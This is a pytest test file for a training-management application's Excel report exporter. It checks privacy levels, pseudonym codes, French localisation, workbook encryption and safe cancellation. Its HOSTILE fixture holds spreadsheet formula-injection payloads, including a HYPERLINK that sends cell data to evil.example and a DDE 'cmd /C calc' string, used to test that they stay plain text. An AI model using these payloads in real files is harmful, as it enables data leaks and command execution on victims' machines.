"""What a report must never do: show personal data it was not asked to, turn a name into a formula,
crash on a control character, leave a half-written file, or leave an encrypted file readable."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import msoffcrypto
import openpyxl
import pytest
from delivery_world import TODAY, World, make_world
from report_world import Demo, every_text, sheet_rows, table

from trainmgr.errors import Cancelled, ValidationError
from trainmgr.exchange.excel.reports.encryption import decrypt_workbook
from trainmgr.services.container import Services
from trainmgr.services.report_context import PersonalData, ReportKind, ReportRequest, pseudonym
from trainmgr.services.reports import ReportService
from trainmgr.services.tasks import CancelToken

# LibreOffice's CSV filter: comma, double quote, UTF-8, ..., formulas as results, the third sheet
CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3"
HOSTILE = {
    "family": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "given": "+1",
    "number": "@SUM(1+1)*cmd|' /C calc'!A0",
    "position": "-2+3",
}


@pytest.mark.parametrize("kind", ["attendance", "results"])
@pytest.mark.parametrize("level", ["none", "pseudonymised"])
def test_no_name_or_service_number_below_full(demo: Demo, kind: str, level: str) -> None:
    cohort_id = demo.cohort_id()
    path = demo.export(kind, personal_data=level, cohort_id=cohort_id)
    text = every_text(path)
    roster = demo.services.cohorts.roster(cohort_id)
    assert roster
    for e in roster:
        assert e.service_number not in text
        assert not _word_in(e.family_name, text) and not _word_in(e.given_names, text)
    full = demo.export(kind, "full.xlsx", personal_data="full", cohort_id=cohort_id)
    assert all(e.service_number in every_text(full) for e in roster)


def _word_in(name: str, text: str) -> bool:
    return re.search(rf"(?<!\w){re.escape(name)}(?!\w)", text) is not None


def test_pseudonym_codes_are_stable_across_exports_and_identify_no_one(demo: Demo) -> None:
    cohort_id = demo.cohort_id()
    first = demo.export("attendance", "one.xlsx", personal_data="pseudonymised", cohort_id=cohort_id)
    second = demo.export("attendance", "two.xlsx", personal_data="pseudonymised", cohort_id=cohort_id, language="fr")
    header, rows = table(first, "Register")
    assert header[0] == "Trainee code" and all(str(r[0]).startswith("T-") for r in rows)
    _, rows_fr = table(second, "Registre")
    assert [r[0] for r in rows] == [r[0] for r in rows_fr]
    codes = {pseudonym(demo.programme_id, e.person_id) for e in demo.services.cohorts.roster(cohort_id)}
    assert {r[0] for r in rows} <= codes and len({r[0] for r in rows}) == len(rows)
    about = dict(r[:2] for r in sheet_rows(first, "About")[2:])
    assert about["Personal data"].startswith("Pseudonymised")


def test_none_writes_no_individual_rows(demo: Demo) -> None:
    path = demo.export("results", personal_data="none", cohort_id=demo.cohort_id())
    assert openpyxl.load_workbook(path).sheetnames == ["About", "Completion"]
    about = dict(r[:2] for r in sheet_rows(path, "About")[2:])
    assert about["Personal data"].startswith("None: aggregate figures only")


def test_french_report_headers_dates_and_about_sheet(demo: Demo) -> None:
    path = demo.export("attendance", language="fr", cohort_id=demo.cohort_id())
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["À propos", "Séances", "Registre"]
    about = dict(r[:2] for r in sheet_rows(path, "À propos")[2:])
    assert about["Langue"] == "Français" and about["Données personnelles"].startswith("Complètes")
    assert " à " in about["Généré le"]
    header, _ = table(path, "Registre")
    assert header[:4] == ["Nom", "Prénoms", "Matricule", "Grade"]
    date_cell = wb["Séances"]["A5"]
    assert isinstance(date_cell.value, date) and date_cell.number_format == "dd/mm/yyyy"
    assert wb.properties.language == "fr"


@pytest.fixture
def hostile(services: Services) -> World:
    w = make_world(services)
    units = services.units.list(w.programme_id)
    assert units
    person = w.trainee(HOSTILE["family"], HOSTILE["given"], HOSTILE["number"], position=HOSTILE["position"])
    w.trainee("Bell\x07\x1bName", "Tab\tOK", "007")
    cohort = w.cohort("=1+1 cohort")
    w.cohorts.enrol(cohort, person, today=date(2025, 5, 1))
    sid = w.session(cohort, date(2025, 6, 2), held=True)
    w.attendance.mark(sid, person, "present", today=TODAY)
    return w


def test_hostile_strings_stay_text_and_control_characters_never_crash(hostile: World, tmp_path: Path) -> None:
    reports = ReportService(hostile.services.db)
    cohort_id = hostile.cohorts.list(hostile.programme_id)[0].id
    path = tmp_path / "register.xlsx"
    reports.export(ReportRequest(ReportKind.ATTENDANCE, cohort_id=cohort_id, personal_data=PersonalData.FULL), path)
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets)  # no formula anywhere
    wb = openpyxl.load_workbook(path)
    ws = wb["Register"]
    row = [c for c in ws[5]]
    assert (row[0].value, row[1].value, row[2].value) == (HOSTILE["family"], HOSTILE["given"], HOSTILE["number"])
    assert all(c.data_type == "s" and c.quotePrefix for c in row[:3])
    assert wb["Sessions"]["A1"].value == "Sessions of =1+1 cohort"


def test_control_characters_in_names_are_stripped(hostile: World, tmp_path: Path) -> None:
    cohort = hostile.cohort("Second")
    hostile.cohorts.enrol(cohort, hostile.trainees.search(hostile.programme_id, "Bell").rows[0].id,
                          today=date(2025, 5, 1))
    path = tmp_path / "results.xlsx"
    ReportService(hostile.services.db).export(
        ReportRequest(ReportKind.RESULTS, cohort_id=cohort, personal_data=PersonalData.FULL), path)
    _, rows = table(path, "Results")
    assert rows[0][:3] == ("BellName", "Tab\tOK", "007")


def test_password_encrypts_the_workbook(demo: Demo) -> None:
    plain = demo.export("attendance", "plain.xlsx", cohort_id=demo.cohort_id())
    secret = demo.export("attendance", "secret.xlsx", cohort_id=demo.cohort_id(), password="correct horse")
    data = secret.read_bytes()
    assert data[:8] == bytes.fromhex("D0CF11E0A1B11AE1")  # an OLE container, not a zip
    assert not zipfile.is_zipfile(secret)
    office = msoffcrypto.OfficeFile(io.BytesIO(data))
    assert office.is_encrypted()
    with secret.open("rb") as handle:
        decrypted = decrypt_workbook(handle, "correct horse")
    assert sheet_rows_bytes(decrypted, "Register")[4:] == sheet_rows(plain, "Register")[4:]
    about = dict(r[:2] for r in openpyxl.load_workbook(io.BytesIO(decrypted))["About"].iter_rows(
        min_row=3, values_only=True))
    assert "password-protected" in about["Encryption"]
    with secret.open("rb") as handle, pytest.raises(Exception, match=r"(?i)password|key"):
        decrypt_workbook(handle, "wrong password")


def sheet_rows_bytes(data: bytes, sheet: str) -> list[tuple]:
    return [tuple(r) for r in openpyxl.load_workbook(io.BytesIO(data))[sheet].iter_rows(values_only=True)]


def test_short_password_is_refused_before_anything_is_written(demo: Demo) -> None:
    with pytest.raises(ValidationError, match="at least 8"):
        demo.export("attendance", "short.xlsx", cohort_id=demo.cohort_id(), password="1234")
    assert list(demo.tmp.iterdir()) == []


def test_cancelled_export_leaves_nothing_and_keeps_an_older_file(demo: Demo) -> None:
    target = demo.tmp / "report.xlsx"
    target.write_bytes(b"older report")
    token = CancelToken()
    steps: list[str] = []

    def progress(_done: int, _total: int, message: str) -> None:
        steps.append(message)
        if message == "Reading results and completion":
            token.cancel()

    with pytest.raises(Cancelled):
        demo.reports.export(ReportRequest(ReportKind.RESULTS, programme_id=demo.programme_id,
                                          personal_data=PersonalData.FULL), target, progress, token)
    assert target.read_bytes() == b"older report"
    assert [p.name for p in demo.tmp.iterdir()] == ["report.xlsx"]  # no temporary file left


def test_a_cohort_report_without_a_cohort_is_refused(demo: Demo) -> None:
    with pytest.raises(ValidationError, match="one cohort"):
        demo.export("attendance")
    with pytest.raises(ValidationError, match="Reports are available in en, fr"):
        demo.export("summary", language="pt")


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_every_report_and_keeps_hostile_text_as_text(hostile: World, demo: Demo,
                                                                        tmp_path: Path) -> None:
    cohort_id = demo.cohort_id()
    files = [demo.export("summary"), demo.export("statistics", suppress_small=True),
             demo.export("assessment", unit_id=demo.assessed_unit_id()), demo.export("curriculum", language="fr"),
             demo.export("attendance", cohort_id=cohort_id), demo.export("results", cohort_id=cohort_id)]
    register = tmp_path / "hostile.xlsx"
    ReportService(hostile.services.db).export(ReportRequest(
        ReportKind.ATTENDANCE, cohort_id=hostile.cohorts.list(hostile.programme_id)[0].id,
        personal_data=PersonalData.FULL), register)
    out = tmp_path / "pdf"
    profile = f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}"
    subprocess.run(["soffice", profile, "--headless", "--convert-to", "pdf", "--outdir", str(out),
                    *map(str, files)], check=True, capture_output=True, timeout=600)
    for f in files:
        pdf = out / f"{f.stem}.pdf"
        assert pdf.exists() and pdf.read_bytes()[:5] == b"%PDF-"
    # LibreOffice recomputes formulas on load: a name turned formula would come back as its result
    subprocess.run(["soffice", profile, "--headless", "--convert-to", CSV_FILTER, "--outdir", str(out),
                    str(register)], check=True, capture_output=True, timeout=600)
    csv = (out / "hostile-Register.csv").read_text(encoding="utf-8")
    assert 'HYPERLINK(""http://evil.example/?x=""&A1,""Click"")' in csv and "+1" in csv
